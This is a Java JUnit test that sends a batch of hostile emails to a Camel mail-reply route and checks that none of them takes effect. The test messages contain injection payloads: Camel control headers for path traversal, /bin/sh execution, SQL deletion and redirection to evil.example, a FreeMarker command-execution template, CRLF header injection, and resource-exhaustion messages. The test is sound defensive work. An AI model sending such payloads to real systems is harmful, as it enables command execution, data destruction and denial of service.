package io.relance.routes;

import static org.assertj.core.api.Assertions.assertThat;

import io.relance.boot.Home;
import io.relance.boot.House;
import io.relance.boot.Hub;
import io.relance.boot.Schedule;
import io.relance.flow.Replies;
import io.relance.support.ImapBox;
import io.relance.support.SelfSigned;
import io.relance.support.TestDatabase;
import io.relance.support.TestHome;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentSkipListSet;
import org.apache.camel.spi.CamelEvent;
import org.apache.camel.spi.CamelEvent.ExchangeEvent;
import org.apache.camel.support.EventNotifierSupport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * routes/replies.camel.yaml, as shipped, in a hub whose mailbox fills with attacks: on Camel's own
 * mail consumer (CVE-2026-33454, CVE-2026-85314), on parsers, on whoever reads what is kept.
 */
class RepliesRouteTest {
  @TempDir Path folder;
  private final Set<String> headers = new ConcurrentSkipListSet<>();
  private final Set<String> bodies = new ConcurrentSkipListSet<>();

  private final class Watch extends EventNotifierSupport {
    @Override
    public void notify(CamelEvent event) {
      if (event instanceof ExchangeEvent seen
          && "replies".equals(seen.getExchange().getFromRouteId())) {
        headers.addAll(seen.getExchange().getMessage().getHeaders().keySet());
        bodies.add(String.valueOf(seen.getExchange().getMessage().getBody()));
      }
    }
  }

  private static String mail(String headers, String body) {
    return "From: mallory@evil.example\nTo: compta@acme.example\n" + headers + "\n" + body;
  }

  private static List<String> attacks() {
    List<String> attacks = new ArrayList<>();
    attacks.add(
        mail(
            """
            Message-ID: <a1@evil.example>
            Subject: headers that Camel obeys
            CamelFileName: ../../../../tmp/owned
            CAmelHttpUri: http://evil.example/
            camelhttppath: /owned
            CamelExecCommandExecutable: /bin/sh
            CamelBeanMethodName: close
            CamelSqlQuery: delete from act
            org.apache.camel.file: x
            mail.smtp.host: evil.example
            Mail.SMTP.from: evil@evil.example
            mail.imap.ssl.trust: *
            JMSReplyTo: owned
            """,
            "${bean:database?method=close} <#assign x='freemarker.template.utility.Execute'?new()>${x('id')}\n"));
    attacks.add(
        mail(
            "Message-ID: <a2@evil.example>\nSubject: =?utf-8?Q?line=0D=0ABcc:_all@acme.example=00?=\n",
            "x\u0000y\n"));
    attacks.add(
        mail(
            "Message-ID: <a3\n\tb@evil.example>\nSubject: " + "x".repeat(900_000) + "\n",
            "long\n"));
    StringBuilder deep = new StringBuilder();
    for (int i = 0; i < 3_000; i++) {
      deep.append("Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n".formatted(i, i));
    }
    attacks.add(
        mail("Message-ID: <a4@evil.example>\nSubject: deep\nMIME-Version: 1.0\n" + deep, ""));
    attacks.add(
        mail(
            "Message-ID: <a5@evil.example>\nSubject: wide\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n",
            "--b\nA: b\n\nx\n".repeat(120_000)));
    attacks.add(
        mail(
            "Message-ID: <a6@evil.example>\nSubject: many headers\n" + "A: b\n".repeat(400_000),
            ""));
    attacks.add(
        mail(
            "Message-ID: <a7@evil.example>\nSubject: report\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\n",
            "--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; x\n\n"
                + "Final-Recipient: rfc822; d@acme.example\nAction: failed\nStatus: 5.1.1\n\n"
                    .repeat(20_000)
                + "--b--\n"));
    attacks.add("\n\nno headers at all\n");
    attacks.add(
        mail(
            "Message-ID: <a9@evil.example>\nSubject: slow words\n",
            "mailbox ".repeat(20_000)
                + "a".repeat(100_000)
                + "@".repeat(1_000)
                + "<".repeat(90_000)));
    attacks.add(
        mail(
            "Message-ID: <a10@evil.example>\nSubject: deep html\nContent-Type: text/html\n",
            "<div>".repeat(200_000)));
    return attacks;
  }

  @Test
  void nothingThatAStrangerWritesReachesAnEndpoint() throws Exception {
    try (ImapBox box = ImapBox.proven(folder, SelfSigned.of("localhost", folder))) {
      TestHome.in(folder.resolve("home"))
          .file("routes/replies.camel.yaml", TestHome.shipped("routes/replies.camel.yaml"))
          .settings(
              "relance.db.url=" + TestDatabase.freshUrl(),
              "relance.db.password=postgres",
              "relance.replies.host=localhost",
              "relance.replies.port=" + box.tlsPort(),
              "relance.replies.tls.ca=../localhost.crt",
              "relance.replies.user=" + ImapBox.USER,
              "relance.replies.password=" + ImapBox.PASSWORD,
              "relance.replies.cron=0 0 0 1 1 ? 2099");
      take(box, folder.resolve("home"));
      assertThat(box.subjects("INBOX", false)).as("nothing is deleted").hasSize(attacks().size());
    }
  }

  private void take(ImapBox box, Path home) throws Exception {
    try (House house = House.open(Home.at(home), Clock.systemUTC(), Map.of());
        Hub hub = Hub.start(house, "n1")) {
      assertThat(hub.refused()).isEmpty();
      hub.context().getManagementStrategy().addEventNotifier(new Watch());
      hub.bean("schedule", Schedule.class).run("replies", Duration.ofMinutes(1));
      Set<String> quartz = Set.copyOf(headers);
      assertThat(hub.bean("replies", Replies.class).trouble()).isEmpty();
      for (String attack : attacks()) {
        box.arrive(attack.getBytes(StandardCharsets.UTF_8));
      }
      hub.bean("schedule", Schedule.class).run("replies", Duration.ofMinutes(1));

      assertThat(headers).isEqualTo(quartz);
      assertThat(bodies).containsOnly("null");
      var jdbc = house.database().jdbc();
      assertThat(jdbc.sql("select count(*) from came_back").query(Integer.class).single())
          .isEqualTo(attacks().size());
      assertThat(jdbc.sql("select count(*) from journal").query(Integer.class).single())
          .isEqualTo(attacks().size());
      assertThat(
              jdbc.sql("select concat(sender, subject, cause) from came_back")
                  .query(String.class)
                  .list())
          .allMatch(text -> text.length() < 6_000 && !text.matches("(?s).*\\p{Cntrl}.*"));
      assertThat(jdbc.sql("select count(*) from address_block").query(Integer.class).single())
          .isZero();
      assertThat(jdbc.sql("select count(*) from account_hold").query(Integer.class).single())
          .isZero();
      assertThat(jdbc.sql("select subject from alert").query(String.class).list())
          .isSubsetOf("strangers");
    }
  }

  @Test
  void withoutAMailboxNothingIsRead() throws Exception {
    TestHome.in(folder)
        .file("routes/replies.camel.yaml", TestHome.shipped("routes/replies.camel.yaml"))
        .settings("relance.db.url=" + TestDatabase.freshUrl(), "relance.db.password=postgres");
    try (House house = House.open(Home.at(folder), Clock.systemUTC(), Map.of());
        Hub hub = Hub.start(house, "n1")) {
      hub.bean("schedule", Schedule.class).run("replies", Duration.ofMinutes(1));
      assertThat(
              house
                  .database()
                  .jdbc()
                  .sql("select count(*) from alert")
                  .query(Integer.class)
                  .single())
          .isZero();
    }
  }
}
